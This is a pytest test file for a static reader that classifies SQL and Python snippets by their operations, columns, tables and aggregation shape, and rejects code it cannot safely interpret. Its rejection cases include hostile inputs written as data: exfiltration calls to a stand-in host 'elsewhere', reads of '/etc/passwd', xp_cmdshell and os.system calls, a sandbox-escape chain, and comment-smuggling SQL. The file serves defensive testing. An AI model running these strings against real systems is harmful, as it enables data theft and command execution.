"""What code does, without running it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lacuna.adapters.code.reader import MAX_CHARACTERS, SqlOrPython
from lacuna.domain.operations import Aggregation, Operation

READ, WRITE, EXPORT, DELETE = Operation.READ, Operation.WRITE, Operation.EXPORT, Operation.DELETE
reader = SqlOrPython()


@pytest.mark.parametrize(
    ("code", "operations"),
    [
        ("select region from staff", {READ}),
        ("SELECT a FROM t UNION SELECT b FROM u", {READ}),
        ("insert into x select a from staff", {READ, WRITE}),
        ("create table x as select a from staff", {READ, WRITE}),
        ("select a into x from staff", {READ, WRITE}),
        ("update staff set a = 1", {READ, WRITE}),
        ("delete from staff", {READ, DELETE}),
        ("drop table staff", {READ, DELETE}),
        ("merge into t using staff s on t.a = s.a when matched then delete", {READ, WRITE, DELETE}),
        ("merge into t using staff s on t.a = s.a when matched then update set b = s.b", {READ, WRITE}),
        ("select region -- of all\nfrom staff", {READ}),
        ("copy staff to 's3://elsewhere'", {READ, WRITE, EXPORT}),
        ("copy (select a from staff) to program 'curl -T - elsewhere'", {READ, WRITE, EXPORT}),
        ("df.groupby('region').mean()", {READ}),
        ("import pandas as pd\npd.read_csv('x').to_csv('y')", {READ, EXPORT}),
        ("df.write.saveAsTable('x')", {READ, WRITE}),
        ("df.a.transform(df.to_csv)", {READ, EXPORT}),
        ("create external table x location 's3://elsewhere' as select a from staff", {READ, WRITE, EXPORT}),
        ("insert overwrite directory 's3://elsewhere' select a from staff", {READ, WRITE, EXPORT}),
        ("df[df.salary > 3].groupby(['region']).agg({'salary': ['mean', 'sum']}).head()", {READ}),
        ("import numpy as np\ndf.agg(np.mean, axis=0).fillna(np.nan)", {READ}),
        ("from pyspark.sql import functions as F\ndf.groupBy('region').agg(F.sum('salary'))", {READ}),
        ("sorted(['/mnt/x'], key=df.to_csv)", {READ, EXPORT}),
        ("print = df.to_csv\nprint('/mnt/x')", {READ, EXPORT}),
        ("df.agg('to_csv', path_or_buf='/mnt/x')", {READ, EXPORT}),
    ],
)
def test_code_is_known_by_what_it_does(code: str, operations: set[Operation]) -> None:
    found = reader.read(code)
    assert found.readable
    assert found.operations == operations


@pytest.mark.parametrize(
    "code",
    [
        "",
        "hello",
        "select 1; drop table staff",
        "select pg_read_file('/etc/passwd')",
        "select dblink('host=elsewhere', 'select 1')",
        "select utl_http.request('http://elsewhere/' || email) from staff",
        "select a from staff into outfile '/tmp/x'",
        "select a from staff into/**/outfile '/tmp/x'",
        "select a /*!50000 into dumpfile 'x' */ from staff",
        "exec xp_cmdshell 'dir'",
        "call anything()",
        "grant all on staff to public",
        "import requests\nrequests.post('http://elsewhere', data=rows)",
        "from os import system\nsystem('curl elsewhere')",
        "__import__('os').system('x')",
        "eval('1')",
        "df.__class__.__base__.__subclasses__()",
        "open('x', 'w').write(rows)",
        "df.apply(lambda row: row)",
        "df.a.transform(eval)",
        "import pandas as pd\ndf.a.transform(pd.eval)",
        "import pandas as pd\nx = pd\ndf.a.transform(x.eval)",
        "import pandas as pd\npd.io.common.urlopen('http://elsewhere')",
        "from pandas import eval as sum\nsum('1')",
        "import pandas.io.common\nlen('x')",
        "from .x import sum\nsum(1)",
        "select count(*) from read_csv('/etc/passwd')",
        "select 1 from read_parquet('s3://x')",
        "max(['x'], key=eval)",
        "max(['x'], key=df.to_clipboard)",
        "f = df.plot or df.hist\nsum([1])",
        "import pandas as pd\nmax(['id'], key=pd.io.common.os.system)",
        "import pandas as pd\nother = pd\nmax(['id'], key=other.io.common.os.system)",
        "import pandas.io.common as c\nmax(['id'], key=c.os.system)",
        "import pandas as pd\nstr = pd.read_pickle\nstr('x')",
        "from pandas import read_pickle as print\nprint('x')",
        "from pandas import *\nprint('x')",
        "match df:\n  case pd.DataFrame(to_clipboard=print): print('x')",
        "df.agg('to_clipboard')",
        "df.agg({'a': 'to_clipboard'})",
        "df.agg('to_' + 'csv')",
        "f = 'to_clipboard'\ndf.agg(f)",
        "df.agg(**{'func': 'to_clipboard'})",
        "df.agg(str('to_clipboard'))",
        "select " + "(" * 100 + "1" + ")" * 100,
        "select a" + " " * MAX_CHARACTERS,
        "select 'x",
        r"select 'a\'', email from pay -- '",
        "select $$ -- $$, email from pay",
        "select 1 --1, email from pay",
        "select 1 # ' \n, email from pay -- '",
        "select 1 /* /* */, email from pay -- */",
        "\x00",
    ],
)
def test_code_that_might_do_anything_is_not_readable(code: str) -> None:
    assert not reader.read(code).readable


@pytest.mark.parametrize(
    ("code", "columns"),
    [
        ("select s.Region from hr.staff s where s.email = 'x'", {"staff.region", "staff.email"}),
        ("select region from staff order by salary", {"region", "salary"}),
        ("select row_count from staff s", {"row_count"}),
        ("with t as (select email as e from staff) select e from t", {"e", "email"}),
        ("select t.email from staff t where exists (select 1 from pub t where t.x = 1)", {"email", "x"}),
        ("select t.email from staff t union select t.x from pub t", {"email", "x"}),
    ],
)
def test_every_column_that_is_named_counts(code: str, columns: set[str]) -> None:
    found = reader.read(code)
    assert found.columns is not None
    assert {str(column) for column in found.columns} == columns


@pytest.mark.parametrize(
    "code",
    [
        "select * from staff",
        "select s.* from staff s",
        "select count(*), t.* from staff t",
        "select region from (select * from staff) x",
        "select region from staff natural join pay",
        "select region from staff join pay using (email)",
        "insert into x select region from staff",
    ],
)
def test_a_star_is_everything(code: str) -> None:
    assert reader.read(code).columns is None


def test_tables_are_told_but_not_those_that_are_made() -> None:
    assert reader.read("select a from hr.staff join pay p on p.i = staff.i").tables == frozenset({"hr.staff", "pay"})
    assert reader.read("insert into fresh select a from staff").tables == frozenset({"staff"})
    assert reader.read("create table fresh as select a from staff").tables == frozenset({"staff"})
    assert reader.read("with t as (select a from staff) select a from t").tables == frozenset({"staff"})


def test_what_python_reads_by_itself_is_told_too() -> None:
    assert reader.read("df.sum()").tables is None
    assert reader.read("spark.table('HR.staff').sum()").tables == frozenset({"hr.staff"})
    both = "import pandas as pd\npd.read_csv('a.csv').merge(pd.read_sql('select * from pay', c))"
    assert reader.read(both).tables == frozenset({"a.csv", "select * from pay"})
    assert reader.read("table = df.head()\ntable.sum()").tables is None
    for hidden in (
        "from pandas import read_csv\nmax(['pay'], key=read_csv)",
        "spark.table(name).sum()",
        "sorted(['pay'], key=spark.table)",
        "spark.table(*names).sum()",
    ):
        assert not reader.read(hidden).readable


@pytest.mark.parametrize(
    ("code", "shape"),
    [
        ("select count(*) from staff", Aggregation(True)),
        ("select count(distinct email) n from staff", Aggregation(True)),
        (
            "select region, avg(salary) from staff group by region having count(*) >= 7",
            Aggregation(False, ("region",), (), 7),
        ),
        ("select sum(a) from staff where region = 'x' having count(*) > 9", Aggregation(False, (), ("region",), 10)),
    ],
)
def test_plain_aggregations_are_recognised(code: str, shape: Aggregation) -> None:
    assert reader.read(code).aggregation == shape


@pytest.mark.parametrize(
    "code",
    [
        "select region from staff",
        "select max(salary) from staff having count(*) >= 9",
        "select string_agg(email, ',') from staff having count(*) >= 9",
        "select sum(case when email = 'x' then salary end) from staff having count(*) >= 9",
        "select sum(salary) filter (where email = 'x') from staff having count(*) >= 9",
        "select sum(salary) over (partition by email) from staff",
        "select region, salary, count(*) from staff group by region having count(*) >= 9",
        "select lower(region), count(*) from staff group by lower(region)",
        "select count(*) from staff join pay on pay.i = staff.i",
        "select count(*) from (select email from staff limit 1) x",
        "select count(*) from staff where exists (select 1 from pay)",
        "select count(*) from staff group by cube (region)",
        "select count(*) from staff limit 1",
        "select count(*) from a union select count(*) from b",
    ],
)
def test_anything_that_may_show_a_row_is_no_plain_aggregation(code: str) -> None:
    assert reader.read(code).aggregation is None


@pytest.mark.parametrize(
    "having", ["count(*) >= 9 or true", "count(email) >= 9", "count(*) >= 9.5", "not count(*) < 9", "9 <= count(*)"]
)
def test_only_a_plain_least_group_counts(having: str) -> None:
    shape = reader.read(f"select sum(a) from staff having {having}").aggregation
    assert shape is None or shape.least_group is None


@given(st.text(max_size=60) | st.text("selct*from()'\";,.= \n-/", max_size=60))
def test_nothing_that_is_written_makes_it_fail(code: str) -> None:
    found = reader.read(code)
    assert found.readable or found.columns is None
